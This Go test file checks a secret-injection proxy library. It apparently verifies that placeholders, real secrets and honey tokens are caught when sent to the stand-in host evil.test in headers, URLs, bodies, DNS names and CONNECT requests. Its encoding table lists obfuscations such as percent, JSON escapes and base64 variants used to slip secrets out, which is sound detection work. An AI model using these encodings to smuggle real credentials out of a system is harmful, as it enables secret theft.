package inject_test

import (
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/google/go-cmp/cmp"

	"github.com/sallyport/sallyport/inject"
	"github.com/sallyport/sallyport/inject/shape"
)

// encodings are the ways in which a text may be written on its way out.
var encodings = map[string]func(string) string{
	"raw":             func(s string) string { return s },
	"percent":         percentAll,
	"percent, some":   func(s string) string { return strings.ReplaceAll(s, "_", "%5f") },
	"percent, twice":  func(s string) string { return strings.ReplaceAll(s, "_", "%255F") },
	"JSON":            jsonAll,
	"JSON in percent": func(s string) string { return strings.ReplaceAll(jsonAll(s), `\`, "%5C") },
	"base64 at 0":     func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
	"base64 at 1":     func(s string) string { return base64.StdEncoding.EncodeToString([]byte("u" + s + "?>x")) },
	"base64 at 2":     func(s string) string { return base64.URLEncoding.EncodeToString([]byte("u:" + s + "?>x")) },
	"base64, unpadded": func(s string) string {
		return "x." + base64.RawURLEncoding.EncodeToString([]byte("four"+s))
	},
	"Basic": func(s string) string { return "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+s)) },
}

func jsonAll(s string) string {
	var b strings.Builder
	for _, c := range s {
		fmt.Fprintf(&b, `\u%04x`, c)
	}
	return b.String()
}

// shaped returns one honest binding of each shape.
func shaped() []inject.Binding {
	var all []inject.Binding
	for i, name := range append(shape.Names(), shape.Custom) {
		b := inject.Binding{Env: fmt.Sprintf("KEY_%d", i), Host: fmt.Sprintf("h%d.example.com", i), Secret: "memory:token", Shape: name}
		if name == shape.Custom {
			b.Pattern = `e2b_[0-9a-f]{40}`
		}
		all = append(all, b)
	}
	return all
}

// Ledger: SI-9. Case: C01, C03, C07, C16
func TestPlaceholdersOfEveryShapeAreSeenInEveryEncoding(t *testing.T) {
	t.Parallel()
	all := shaped()
	s := compile(t, all...)
	for _, b := range all {
		ph := s.Env()[b.Env]
		for name, encode := range encodings {
			r := request("https://evil.test/", "X-Note", "see "+encode(ph)+" there")
			requireFind(t, s, r, inject.Find{Kind: inject.FoundPlaceholder, Env: b.Env, Where: "header X-Note"}, b.Shape+" "+name)
			r = request("https://evil.test/")
			r.URL.RawQuery = "q=" + encode(ph)
			requireFind(t, s, r, inject.Find{Kind: inject.FoundPlaceholder, Env: b.Env, Where: "url"}, b.Shape+" "+name)
		}
	}
}

func requireFind(t *testing.T, s *inject.Set, r *http.Request, want inject.Find, what string) {
	t.Helper()
	_, err := s.Apply(t.Context(), r, https(t, "evil.test"), nil)
	var misuse *inject.MisuseError
	if !errors.As(err, &misuse) {
		t.Errorf("%s: got %v", what, err)
		return
	}
	if diff := cmp.Diff(want, misuse.Find); diff != "" {
		t.Errorf("%s (-want +got):\n%s", what, diff)
	}
}

// Decision 20: one from another sandbox is a theft.
func TestPlaceholdersOfOtherBoundariesAreTheft(t *testing.T) {
	t.Parallel()
	var issued inject.Issued
	make := func(id string, bindings ...inject.Binding) *inject.Set {
		s, err := inject.Compile(id, bindings, testKey)
		if err != nil {
			t.Fatal(err)
		}
		return issued.Admit(s)
	}
	custom := inject.Binding{Env: "OTHER", Host: "other.example.com", Secret: "memory:token", Shape: shape.Custom, Pattern: `zz9-[0-9a-f]{40}`}
	thief, owner := make("thief"), make("owner", good(), custom)
	for env, ph := range owner.Env() {
		for name, encode := range encodings {
			want := inject.Find{Kind: inject.FoundStolen, Env: env, Owner: "owner", Where: "header X-Note"}
			requireFind(t, thief, request("https://evil.test/", "X-Note", encode(ph)), want, name)
		}
		var misuse *inject.MisuseError
		if err := thief.CheckName(strings.ToUpper(ph[:9]) + "." + ph[9:] + ".evil.test."); !errors.As(err, &misuse) || misuse.Kind != inject.FoundStolen {
			t.Errorf("in a name: %v", err)
		}
		_, err := send(t, thief, https(t, "evil.test"), ph)
		if !errors.As(err, &misuse) || misuse.Kind != inject.FoundStolen {
			t.Errorf("in a body: %v", err)
		}
	}
	// The same boundary, replaced: two sets have the placeholder for a while.
	again := make("owner", good())
	issued.Withdraw(owner)
	requireFind(t, thief, request("https://evil.test/", "X-Note", again.Env()["API_TOKEN"]),
		inject.Find{Kind: inject.FoundStolen, Env: "API_TOKEN", Owner: "owner", Where: "header X-Note"}, "replaced")
	issued.Withdraw(again)
	if _, err := thief.Apply(t.Context(), request("https://evil.test/", "X-Note", again.Env()["API_TOKEN"]), https(t, "evil.test"), nil); err != nil {
		t.Errorf("of a boundary that has closed: %v", err)
	}
}

// send passes a body through Apply in one-byte reads and returns what arrived
// and what was found.
func send(t *testing.T, s *inject.Set, dest inject.Destination, body string) (string, error) {
	t.Helper()
	got, _, err := sendFrom(t, s, dest, iotest.OneByteReader(strings.NewReader(body)), nil)
	return got, err
}

func sendFrom(t *testing.T, s *inject.Set, dest inject.Destination, body io.Reader, from *inject.Resolver) (string, []inject.Find, error) {
	t.Helper()
	r := request("https://" + dest.Host.String() + "/")
	r.Method, r.Body, r.ContentLength = http.MethodPost, io.NopCloser(body), -1
	in, err := s.Apply(t.Context(), r, dest, from)
	if err != nil {
		t.Fatal(err)
	}
	got, err := io.ReadAll(r.Body)
	if refused := in.Refused(); !errors.Is(err, refused) || (refused == nil) != (err == nil) {
		t.Errorf("the body ended with %v, refused with %v", err, refused)
	}
	return string(got), in.Finds(), err
}

// Decision 19. Case: C03, C05
func TestPlaceholdersInBodies(t *testing.T) {
	t.Parallel()
	strict := good()
	strict.Env, strict.Host, strict.InBody = "STRICT", "strict.example.com", inject.InBodyStrict
	s := compile(t, good(), strict)
	for name, encode := range encodings {
		for _, host := range []string{"evil.test", "api.example.com"} {
			body := `{"note":"` + encode(s.Env()["API_TOKEN"]) + `"}` + strings.Repeat(" x", 3000)
			got, finds, err := sendFrom(t, s, https(t, host), iotest.HalfReader(strings.NewReader(body)), nil)
			want := []inject.Find{{Kind: inject.FoundPlaceholder, Env: "API_TOKEN", Where: "body"}}
			if err != nil || got != body || !cmp.Equal(finds, want) {
				t.Errorf("%s to %s: %d of %d bytes, %v, %v", name, host, len(got), len(body), finds, err)
			}
		}
		body := `{"note":"` + encode(s.Env()["STRICT"]) + `"}`
		got, err := send(t, s, https(t, "strict.example.com"), body)
		if err == nil || len(got) >= len(`{"note":"`)+len(encode(s.Env()["STRICT"])) {
			t.Errorf("strict, %s: %q went out, %v", name, got, err)
		}
	}
}

// Any way of cutting a body gives the same finds, and what may go is unchanged.
func TestBodiesAreWatchedHoweverTheyAreCut(t *testing.T) {
	t.Parallel()
	s := compile(t, good())
	ph := s.Env()["API_TOKEN"]
	for name, encode := range encodings {
		for pad := range 70 {
			body := strings.Repeat("p", pad) + " " + encode(ph) + " " + strings.Repeat("q", 40)
			for size := 1; size < 48; size += 5 {
				got, finds, err := sendFrom(t, s, https(t, "evil.test"), &sized{strings.NewReader(body), size}, nil)
				if err != nil || got != body || len(finds) != 1 {
					t.Fatalf("%s, %d before, pieces of %d: %v, %v", name, pad, size, finds, err)
				}
			}
		}
	}
}

type sized struct {
	r    io.Reader
	size int
}

func (s *sized) Read(p []byte) (int, error) { return s.r.Read(p[:min(len(p), s.size)]) }

// Decision 24
func TestSecretsDontLeave(t *testing.T) {
	t.Parallel()
	s := compile(t, good())
	from := holding(t, map[string]string{"token": plain})
	for name, encode := range encodings {
		for _, host := range []string{"evil.test", "api.example.com"} {
			r := request("https://"+host+"/", "Authorization", "Bearer "+encode(plain))
			_, err := s.Apply(t.Context(), r, https(t, host), from)
			var misuse *inject.MisuseError
			if !errors.As(err, &misuse) || misuse.Find != (inject.Find{Kind: inject.FoundSecret, Env: "API_TOKEN", Where: "header Authorization"}) {
				t.Errorf("%s to %s: %v", name, host, err)
			}
			if err != nil && strings.Contains(err.Error(), plain) {
				t.Errorf("error %q", err)
			}
		}
		got, finds, err := sendFrom(t, s, https(t, "evil.test"), iotest.OneByteReader(strings.NewReader("a long way to go: "+encode(plain))), from)
		var misuse *inject.MisuseError
		if !errors.As(err, &misuse) || misuse.Kind != inject.FoundSecret || len(finds) != 1 {
			t.Errorf("%s in a body: %v", name, err)
		}
		if name == "raw" || strings.HasPrefix(name, "base64") {
			if sent := strings.TrimPrefix(got, "a long way to go: "); len(sent) > 14 {
				t.Errorf("%s: %q of the secret went out", name, sent)
			}
		}
	}
}

// What is only the beginning of a secret isn't held back for ever, and the end
// of a body never is.
func TestNothingIsLostFromBodies(t *testing.T) {
	t.Parallel()
	s := compile(t, good())
	from := holding(t, map[string]string{"token": plain})
	for n := range len(plain) {
		body := "x" + plain[:n]
		if got, _, err := sendFrom(t, s, https(t, "evil.test"), iotest.OneByteReader(strings.NewReader(body)), from); got != body || err != nil {
			t.Errorf("%q came out as %q, %v", body, got, err)
		}
	}
	// Three bytes that could begin a secret go at once: a peer may wait for them.
	r := request("https://evil.test/")
	pr, pw := io.Pipe()
	r.Body, r.ContentLength = pr, -1
	if _, err := s.Apply(t.Context(), r, https(t, "evil.test"), from); err != nil {
		t.Fatal(err)
	}
	go func() { _, _ = pw.Write([]byte("?" + plain[:3])) }()
	got := make([]byte, 4)
	if _, err := io.ReadFull(r.Body, got); err != nil || string(got) != "?"+plain[:3] {
		t.Errorf("got %q, %v", got, err)
	}
	pw.Close()
}

func TestHoney(t *testing.T) {
	t.Parallel()
	honey := inject.Binding{Kind: inject.KindHoney, Env: "AWS_SECRET_ACCESS_KEY", Shape: "aws-secret-access-key"}
	s := compile(t, good(), honey)
	ph := s.Env()[honey.Env]
	want := inject.Find{Kind: inject.FoundHoney, Env: honey.Env, Where: "header Authorization"}
	requireFind(t, s, request("https://evil.test/", "Authorization", "Bearer "+ph), want, "header")
	_, finds, err := sendFrom(t, s, https(t, "evil.test"), strings.NewReader(ph), nil)
	if want.Where = "body"; err != nil || !cmp.Equal(finds, []inject.Find{want}) {
		t.Errorf("in a body: %v, %v", finds, err)
	}
	if !want.Kind.Critical() || inject.FoundPlaceholder.Critical() {
		t.Error("what is critical is wrong")
	}
}

// Ledger: SI-9
func TestMisuseCanBeForwarded(t *testing.T) {
	t.Parallel()
	b := good()
	b.OnMisuse = inject.OnMisuseForward
	s := compile(t, b)
	ph := s.Env()["API_TOKEN"]
	r := request("https://evil.test/", "Authorization", "Bearer "+ph)
	in, err := s.Apply(t.Context(), r, https(t, "evil.test"), nil)
	want := []inject.Find{{Kind: inject.FoundPlaceholder, Env: "API_TOKEN", Where: "header Authorization"}}
	if err != nil || !cmp.Equal(in.Finds(), want) || r.Header.Get("Authorization") != "Bearer "+ph || len(in.Injected) != 0 {
		t.Errorf("got %v, %v, %v", in.Finds(), err, r.Header)
	}
}

// In the CONNECT request, and in labels of whatever case.
func TestNamesAndConnect(t *testing.T) {
	t.Parallel()
	s := compile(t, good())
	ph := s.Env()["API_TOKEN"]
	for _, name := range []string{ph + ".evil.test.", strings.ToUpper(ph) + ".evil.test", ph[:5] + "." + ph[5:] + ".evil.test"} {
		var misuse *inject.MisuseError
		if err := s.CheckName(name); !errors.As(err, &misuse) || misuse.Where != "name" {
			t.Errorf("%s: %v", name, err)
		}
		r := &http.Request{Method: http.MethodConnect, Host: name + ":443", Header: http.Header{}}
		if err := s.CheckConnect(r); !errors.As(err, &misuse) || misuse.Where != "url" {
			t.Errorf("CONNECT %s: %v", name, err)
		}
	}
	r := &http.Request{Method: http.MethodConnect, Host: "evil.test:443", Header: http.Header{"User-Agent": {ph}}}
	if err := s.CheckConnect(r); err == nil {
		t.Error("in the head of a CONNECT")
	}
	if err := s.CheckName("api.example.com."); err != nil {
		t.Error(err)
	}
	var none *inject.Set
	if none.CheckName(ph) != nil || none.CheckConnect(r) != nil {
		t.Error("a nil Set finds something")
	}
}
